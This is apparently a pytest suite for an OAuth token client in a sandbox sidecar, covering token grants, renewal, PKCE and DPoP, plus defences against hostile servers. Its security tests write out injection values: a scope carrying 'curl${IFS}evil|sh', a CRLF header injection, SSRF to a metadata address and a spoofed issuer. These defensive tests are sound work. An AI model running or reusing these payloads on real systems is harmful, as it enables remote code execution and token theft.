"""Tokens for remote servers: how they are got and renewed, and what no server can make of that."""

from __future__ import annotations

import asyncio
import base64
import json
import os
import shlex
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from images.sidecar import oauth_fetch
from images.sidecar.audit import Audit
from images.sidecar.endpoint import Endpoint
from images.sidecar.oauth import OAuthError
from images.sidecar.oauth_fetch import Fetch
from images.sidecar.seams import EndpointSpec, IdentityProvider
from tests.support.waiting import PATIENCE
from tests.unit.sidecar.endpoint_world import Agent, Gate
from tests.unit.sidecar.gate_world import PUBLIC, allow
from tests.unit.sidecar.gate_world import world as internet
from tests.unit.sidecar.oauth_world import OAuthWorld, Request, Response, oauth_world

ROOT = Path(__file__).parents[3]


@pytest.fixture
async def w() -> AsyncIterator[OAuthWorld]:
    async with oauth_world() as made:
        yield made


# --- what works


@asynccontextmanager
async def agent_of(w: OAuthWorld, **oauth: Any) -> AsyncIterator[Agent]:
    """An agent at an endpoint whose one server is the world's."""
    gate = Gate()
    spec = EndpointSpec(servers=(w.spec(**oauth),))
    endpoint = Endpoint(spec, gate, gate, gate, w.dial, lambda server: w.authorizer(**oauth))
    agent = Agent(endpoint.listen_tcp(), "")
    try:
        await agent.open()
        yield agent
    finally:
        await endpoint.close()


async def test_client_credentials_serve_an_agent_through_the_endpoint(w: OAuthWorld) -> None:
    async with agent_of(w) as agent:
        assert await agent.tools() == ["there"]
        assert (await agent.call("there")).text == "it is there"
    [form] = w.token_requests()
    assert form == {"grant_type": "client_credentials", "resource": f"{w.resource.url}/mcp"}
    [asked] = [request for request in w.authority.seen if request.path == "/token"]
    assert base64.b64decode(asked.headers["authorization"].removeprefix("Basic ")) == b"me:client-secret-1"
    assert w.custody.events[-1]["decision"] == "allow"


async def test_a_signed_assertion_stands_for_a_secret(w: OAuthWorld) -> None:
    key = ec.generate_private_key(ec.SECP256R1())
    form = serialization.PrivateFormat.PKCS8
    pem = key.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption()).decode()
    assert await w.ask(w.authorizer(client_secret="", private_key=pem)) == 200
    [sent] = w.token_requests()
    claims = jwt.decode(sent["client_assertion"], key.public_key(), ["ES256"], audience=w.authority.url)
    assert (claims["iss"], claims["sub"]) == ("me", "me")
    with pytest.raises(OAuthError, match="is no key for ES256") as raised:
        await w.ask(w.authorizer(client_secret="", private_key="-----BEGIN PRIVATE KEY-----\nMIIsecret"))
    assert "MIIsecret" not in str(raised.value)


@pytest.mark.parametrize("client", ["", "me"])
async def test_a_workload_shows_the_assertion_of_its_platform(w: OAuthWorld, client: str) -> None:
    assert (
        await w.ask(w.authorizer(grant="jwt_bearer", assertion="who-i-am", client_id=client, client_secret="")) == 200
    )
    [form] = w.token_requests()
    assert (form["grant_type"], form["assertion"]) == ("urn:ietf:params:oauth:grant-type:jwt-bearer", "who-i-am")
    assert form.get("client_id", "") == client


async def test_an_enterprises_assertion_is_exchanged(w: OAuthWorld) -> None:
    w.authority.answers["/idp/token"] = lambda _: Response(
        {
            "access_token": "the-id-jag",
            "token_type": "N_A",
            "issued_token_type": "urn:ietf:params:oauth:token-type:id-jag",
        }
    )
    provider = IdentityProvider(token_endpoint=f"{w.authority.url}/idp/token", client_id="us", id_token="who-it-is")
    assert await w.ask(w.authorizer(grant="identity_assertion", provider=provider)) == 200
    [exchange] = [request.form for request in w.authority.seen if request.path == "/idp/token"]
    assert (exchange["subject_token"], exchange["audience"]) == ("who-it-is", w.authority.url)
    assert w.token_requests()[0]["assertion"] == "the-id-jag"


async def test_a_person_logs_in_with_a_code(w: OAuthWorld) -> None:
    w.metadata = {"scopes_supported": ["offline_access"], "authorization_response_iss_parameter_supported": True}
    w.challenge = f'scope="read", resource_metadata="{w.resource.url}/.well-known/oauth-protected-resource/mcp"'
    authorizer = w.authorizer(person=True, grant="authorization_code", client_id="", client_secret="")
    assert await w.ask(authorizer) == 200
    [asked] = w.person.asked
    assert (asked["client_id"], asked["scope"], asked["prompt"]) == ("made-here", "read offline_access", "consent")
    assert (asked["code_challenge_method"], asked["resource"]) == ("S256", f"{w.resource.url}/mcp")
    [kept] = w.custody.credentials
    assert (kept["access_token"], kept["refresh_token"]) == ("access-token-1", "refresh-token-1")
    assert {"access-token-1", "refresh-token-1"} <= w.custody.hidden


async def test_a_login_is_renewed_and_its_successor_handed_back(w: OAuthWorld) -> None:
    first = w.authorizer(person=True, grant="authorization_code", client_id="", client_secret="")
    assert await w.ask(first) == 200
    later = w.authorizer(
        grant="authorization_code", client_id="", client_secret="", credential=w.custody.credentials[0]
    )
    assert await w.ask(later) == 200
    assert w.issued == 1  # the stored token is still good
    w.now += 3595
    assert await w.ask(later) == 200
    assert w.token_requests()[-1]["refresh_token"] == "refresh-token-1"
    assert w.custody.credentials[-1]["refresh_token"] == "refresh-token-2"
    w.now += 3595
    w.authority.answers["/token"] = lambda _: Response({"error": "temporarily_unavailable"}, 503)
    with pytest.raises(OAuthError, match=r"refused \(temporarily_unavailable\)$"):
        await w.ask(later)
    w.now += 60
    w.authority.answers["/token"] = lambda _: Response({"error": "invalid_grant"}, 400)
    with pytest.raises(OAuthError, match=r"its login has ended .*: mlld sandbox login far"):
        await w.ask(later)
    w.now += 60
    asked, w.valid = w.authority.paths().count("/token"), set()
    with pytest.raises(OAuthError, match="somebody has to log in to it"):
        await w.ask(later)
    assert w.authority.paths().count("/token") == asked  # what has ended is not tried again


async def test_one_renewal_serves_everybody_who_waits(w: OAuthWorld) -> None:
    authorizer = w.authorizer()
    assert await asyncio.gather(*(w.ask(authorizer) for _ in range(20))) == [200] * 20
    assert w.issued == 1


async def test_who_goes_away_does_not_take_a_renewal_with_it(w: OAuthWorld) -> None:
    authorizer = w.authorizer()
    asking = asyncio.create_task(w.ask(authorizer))
    while "/.well-known/oauth-authorization-server" not in w.authority.paths():
        await asyncio.sleep(0)
    asking.cancel()
    with pytest.raises(asyncio.CancelledError):
        await asking
    await authorizer.close()
    assert w.issued == 1
    assert authorizer.token is not None


async def test_a_wider_scope_is_asked_for_with_the_former_ones(w: OAuthWorld) -> None:
    where = f'resource_metadata="{w.resource.url}/.well-known/oauth-protected-resource/mcp"'

    def stepping(request: Request) -> Response:
        token = request.headers.get("authorization", "")
        if token == "Bearer access-token-2":
            return Response({"jsonrpc": "2.0", "id": 1, "result": {}})
        if token:
            return Response({}, 403, {"WWW-Authenticate": 'Bearer error="insufficient_scope", scope="write"'})
        return Response({}, 401, {"WWW-Authenticate": f'Bearer scope="read", {where}'})

    w.resource.answers["/mcp"] = stepping
    assert await w.ask(w.authorizer()) == 200
    assert [form["scope"] for form in w.token_requests()] == ["read", "read write"]
    with pytest.raises(OAuthError, match="wants the scope write, which `scopes` of its auth does not have"):
        await w.ask(w.authorizer(scopes=("read",)))


async def test_without_a_person_the_error_says_how_to_log_in(w: OAuthWorld) -> None:
    with pytest.raises(OAuthError, match=r"mlld sandbox login far$"):
        await w.ask(w.authorizer(grant="authorization_code"))
    assert w.authority.seen == []


async def test_a_token_is_bound_to_a_key_where_both_ends_want_it(w: OAuthWorld) -> None:
    w.metadata = {"dpop_signing_alg_values_supported": ["ES256"]}
    w.challenge = 'realm="x", DPoP algs="ES256"'
    proofs: list[dict[str, Any]] = []

    def proof(request: Request) -> dict[str, Any]:
        head = jwt.get_unverified_header(request.headers["dpop"])
        assert (head["typ"], sorted(head["jwk"])) == ("dpop+jwt", ["crv", "kty", "x", "y"])
        claims: dict[str, Any] = jwt.decode(request.headers["dpop"], jwt.PyJWK(head["jwk"]).key, ["ES256"])
        proofs.append(claims)
        return claims

    def token(request: Request) -> Response:
        if proof(request).get("nonce") != "n1":
            return Response({"error": "use_dpop_nonce"}, 400, {"DPoP-Nonce": "n1"})
        return Response({"access_token": "bound", "token_type": "DPoP", "refresh_token": "r"})

    def mcp(request: Request) -> Response:
        if request.headers.get("authorization") != "DPoP bound":
            return w.mcp(request)
        fresh = proof(request).get("nonce") == "n2"
        again = {"WWW-Authenticate": 'DPoP error="use_dpop_nonce"', "DPoP-Nonce": "n2"}
        return Response({"jsonrpc": "2.0", "id": 1, "result": {}}) if fresh else Response({}, 401, again)

    w.authority.answers["/token"], w.resource.answers["/mcp"] = token, mcp
    authorizer = w.authorizer(person=True, grant="authorization_code", client_secret="")
    assert [await w.ask(authorizer), await w.ask(authorizer)] == [200, 200]
    assert len({each["jti"] for each in proofs}) == len(proofs) == 5
    assert {each["htu"] for each in proofs} == {f"{w.authority.url}/token", f"{w.resource.url}/mcp"}
    later = w.authorizer(grant="authorization_code", client_secret="", credential=w.custody.credentials[0])
    assert await w.ask(later) == 200  # with the same key, since the token is worth nothing without it


# --- what no server can make of it


async def test_cannot_write_a_command_for_who_copies_the_hint(w: OAuthWorld) -> None:
    w.challenge = 'scope="a;curl${IFS}evil|sh read"'
    with pytest.raises(OAuthError) as raised:
        await w.ask(w.authorizer(grant="authorization_code"))
    hint = str(raised.value).partition(": ")[2]
    assert shlex.split(hint) == ["mlld", "sandbox", "login", "far", "--scope", "a;curl${IFS}evil|sh", "--scope", "read"]
    assert hint.endswith("--scope 'a;curl${IFS}evil|sh' --scope read")


async def test_cannot_have_metadata_fetched_elsewhere(w: OAuthWorld) -> None:
    w.challenge = f'resource_metadata="{w.authority.url}/internal"'
    with pytest.raises(OAuthError, match="its metadata is elsewhere"):
        await w.ask(w.authorizer())
    assert w.authority.seen == []
    w.challenge = ""
    w.now += 5
    assert await w.ask(w.authorizer()) == 200


@pytest.mark.parametrize("field", ["authorization_servers", "token_endpoint"])
async def test_cannot_be_led_to_a_host_that_the_plan_does_not_allow(w: OAuthWorld, field: str) -> None:
    outside = "https://169.254.169.254" if field == "authorization_servers" else "https://inside.example.com/token"

    async def dial(server: str, host: str, port: int) -> Any:
        if host not in ("127.0.0.1", "localhost"):
            raise PermissionError(f'{host}:{port} was not granted to this sandbox: add "{host}" to `net.allow`')
        return await w.dial(server, host, port)

    if field == "token_endpoint":
        w.metadata = {"token_endpoint": outside}
    else:
        said = {"resource": f"{w.resource.url}/mcp", "authorization_servers": [outside]}
        w.resource.answers["/.well-known/oauth-protected-resource/mcp"] = lambda _: Response(said)
    with pytest.raises(OAuthError, match=r"its authorization needs .*was not granted .* to `net.allow`"):
        await w.ask(w.authorizer(dial=dial))
    assert w.issued == 0


async def test_cannot_be_led_to_a_private_address(tmp_path: Path) -> None:
    """The real gate: a granted name of an authorization server that leads inside, and one that was not granted."""
    async with internet(tmp_path, far=allow("auth.example.com", "example.com")) as net:
        fetch = Fetch("far", net.gate.dial)
        net.names.zone["auth.example.com"] = [("A", "169.254.169.254")]
        with pytest.raises(OAuthError, match=r"auth\.example\.com.* leads to 169\.254\.169\.254 \(metadata\)"):
            await fetch.get("https://auth.example.com/token")
        with pytest.raises(OAuthError, match=r"add \"login\.example\.com\" to `net\.allow`"):
            await fetch.get("https://login.example.com/token")
        assert net.reached == []
        with pytest.raises(OAuthError, match="certificate"):  # reached, and not trusted here
            await fetch.get("https://example.com/token")
        assert net.reached == [(PUBLIC, 443)]


async def test_cannot_get_a_token_for_another_resource(w: OAuthWorld) -> None:
    said = {"resource": "https://bank.example.com/mcp", "authorization_servers": [w.authority.url]}
    w.resource.answers["/.well-known/oauth-protected-resource/mcp"] = lambda _: Response(said)
    with pytest.raises(OAuthError, match="for another resource"):
        await w.ask(w.authorizer())
    assert w.authority.seen == []


async def test_cannot_have_credentials_sent_to_another_issuer(w: OAuthWorld) -> None:
    with pytest.raises(OAuthError, match=r"and `issuer` of its auth says https://auth.example.com"):
        await w.ask(w.authorizer(issuer="https://auth.example.com"))
    assert w.authority.seen == []
    assert await w.ask(w.authorizer(issuer=w.authority.url)) == 200


async def test_cannot_use_the_metadata_of_another_issuer(w: OAuthWorld) -> None:
    w.metadata = {"issuer": w.authority.url + "/"}
    with pytest.raises(OAuthError, match="names another issuer"):
        await w.ask(w.authorizer())
    assert w.issued == 0


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        ({"state": "another"}, "its state is not ours"),
        ({"iss": "https://evil.example.com"}, "the answer is from https://evil"),
        ({"error": "access_denied", "code": ""}, "refused \\(access_denied\\)"),
        ({"code": ""}, "sent no code"),
    ],
)
async def test_cannot_pass_off_another_redirect(w: OAuthWorld, answer: dict[str, str], why: str) -> None:
    w.redirect = answer
    with pytest.raises(OAuthError, match=why):
        await w.ask(w.authorizer(person=True, grant="authorization_code"))
    assert w.issued == 0


async def test_cannot_do_without_pkce(w: OAuthWorld) -> None:
    w.metadata = {"code_challenge_methods_supported": ["plain"]}
    with pytest.raises(OAuthError, match="does not offer PKCE"):
        await w.ask(w.authorizer(person=True, grant="authorization_code"))
    assert w.person.asked == []


async def test_cannot_make_a_token_follow_a_redirect(w: OAuthWorld) -> None:
    authorizer = w.authorizer()
    assert await w.ask(authorizer) == 200
    thief = f"{w.authority.url}/mcp"
    w.resource.answers["/mcp"] = lambda _: Response({}, 307, {"Location": thief})
    assert await w.ask(authorizer) == 307
    assert "/mcp" not in w.authority.paths()
    assert authorizer.headers(authorizer.token, "POST", f"{w.resource.url}/other")  # its own origin
    assert authorizer.headers(authorizer.token, "POST", thief) == {}
    w.resource.answers["/mcp"] = w.mcp
    w.authority.answers["/token"] = lambda _: Response({}, 307, {"Location": f"{w.resource.url}/steal"})
    with pytest.raises(OAuthError, match="HTTP 307"):
        await w.ask(w.authorizer())
    assert "/steal" not in w.resource.paths()


async def test_cannot_use_a_login_for_another_server(w: OAuthWorld) -> None:
    kept = {
        "resource": "https://bank.example.com/mcp",
        "issuer": w.authority.url,
        "client_id": "x",
        "access_token": "gold",
    }
    with pytest.raises(OAuthError, match="somebody has to log in"):
        await w.ask(w.authorizer(grant="authorization_code", credential=kept))
    assert all("authorization" not in request.headers for request in w.resource.seen)
    w.valid = {"gold"}
    own = kept | {"resource": f"{w.resource.url}/mcp"}
    assert await w.ask(w.authorizer(grant="authorization_code", credential=own)) == 200


async def test_cannot_write_headers_with_a_token(w: OAuthWorld) -> None:
    w.authority.answers["/token"] = lambda _: Response({"access_token": "x\r\nHost: evil", "token_type": "Bearer"})
    with pytest.raises(OAuthError, match="no header can carry"):
        await w.ask(w.authorizer())
    assert w.resource.paths().count("/mcp") == 1


async def test_cannot_make_it_loop(w: OAuthWorld) -> None:
    """Every token is refused, with a scope that is new each time."""
    count = 0

    def never(request: Request) -> Response:
        nonlocal count
        count += 1
        said = f'Bearer error="insufficient_scope", scope="s{count}"'
        return Response({}, 403 if "authorization" in request.headers else 401, {"WWW-Authenticate": said})

    w.resource.answers["/mcp"] = never
    authorizer = w.authorizer()
    assert await w.ask(authorizer) == 403
    assert count == 4
    refusals = 0
    for _ in range(20):
        try:
            await w.ask(authorizer)
        except OAuthError as e:
            refusals += "tokens within 60 s" in str(e)
    assert refusals
    assert w.issued <= 8
    w.now += 61
    w.valid = {"access-token-9", "access-token-8"}
    w.resource.answers["/mcp"] = w.mcp
    assert await w.ask(authorizer) == 200


async def test_cannot_make_it_renew_for_ever(w: OAuthWorld) -> None:
    w.lifetime = 0  # lapses at once, each time
    authorizer = w.authorizer()
    outcomes = await asyncio.gather(*(w.ask(authorizer) for _ in range(50)), return_exceptions=True)
    outcomes += [await asyncio.gather(w.ask(authorizer), return_exceptions=True) for _ in range(20)]
    assert "tokens within 60 s" in str(outcomes[-1])
    assert w.issued <= 8


async def test_cannot_make_it_hang(w: OAuthWorld, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(oauth_fetch, "_REQUEST_SECONDS", 0.2)
    w.authority.answers["/token"] = lambda _: None
    with pytest.raises(OAuthError, match="localhost did not answer within"):
        await asyncio.wait_for(w.ask(w.authorizer()), PATIENCE)


@pytest.mark.parametrize(
    "body", [b'{"issuer": "' + b"x" * (10 << 20) + b'"}', b"[" * 60_000, b'{"issuer": 7}', b"\xff\xfe", b""]
)
async def test_cannot_feed_it_what_is_no_metadata(w: OAuthWorld, body: bytes) -> None:
    w.authority.answers["/.well-known/oauth-authorization-server"] = lambda _: Response(raw=body)
    with pytest.raises(OAuthError, match=r"over the limit of 65536 bytes|is not what the protocol says"):
        await w.ask(w.authorizer())
    assert w.issued == 0


async def test_a_refusal_is_not_asked_for_again_and_again(w: OAuthWorld) -> None:
    w.authority.answers["/token"] = lambda _: Response(
        {"error": "unauthorized_client", "error_description": "no\n!"}, 400
    )
    authorizer = w.authorizer()
    for _ in range(5):
        with pytest.raises(OAuthError, match=r"refused \(unauthorized_client\): no.!"):
            await w.ask(authorizer)
    assert w.authority.paths().count("/token") == 1


@pytest.mark.parametrize("where", ["error", "error_description"])
async def test_cannot_have_a_secret_said_back_to_the_agent(w: OAuthWorld, where: str) -> None:
    said = {"error": "invalid_client", where: "no client-secret-1 of refresh-token-7 here"}
    w.authority.answers["/token"] = lambda _: Response(said, 401)
    async with agent_of(w) as agent:
        listed = (await agent.request("tools/list")).result["_meta"]["dev.mlld/servers"]
    assert "no •••• of refresh-token-7 here" in listed["far"]["reason"]


async def test_cannot_find_tokens_in_the_record_or_in_errors(w: OAuthWorld) -> None:
    reading, writing = os.pipe()
    audit = Audit(writing, secrets=w.spec().oauth.secrets(), leased=False, on_failure=lambda e: None)
    w.custody.hide = audit.hide
    assert await w.ask(w.authorizer()) == 200
    audit.emit({"event": "call", "result": "got access-token-1, refresh-token-1 and client-secret-1 from Mr. Plain"})
    audit.keep("far", {"access_token": "access-token-1"})  # nobody holds the other end: not written at all
    await audit.close(timeout=1)
    os.close(writing)
    said = os.read(reading, 1 << 16).decode()
    os.close(reading)
    assert "Mr. Plain" in said
    assert not any(secret in said for secret in ("access-token-1", "refresh-token-1", "client-secret-1"))
    assert "credential" not in said
    shown = repr(w.spec()) + repr(w.authorizer(person=True).token)
    assert "client-secret-1" not in shown


async def test_an_endpoint_tells_its_agent_why_a_server_is_missing(w: OAuthWorld) -> None:
    async with agent_of(w, grant="authorization_code") as agent:
        listed = (await agent.request("tools/list")).result
        assert "mlld sandbox login far" in json.dumps(listed["_meta"]["dev.mlld/servers"])


def test_nothing_of_it_is_loaded_where_no_server_wants_tokens() -> None:
    code = "import sys, images.sidecar.__main__; print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True).stdout
    assert "images.sidecar.endpoint" in loaded
    assert not {"jwt", "cryptography", "images.sidecar.authorizer", "images.sidecar.oauth"} & set(loaded.split())
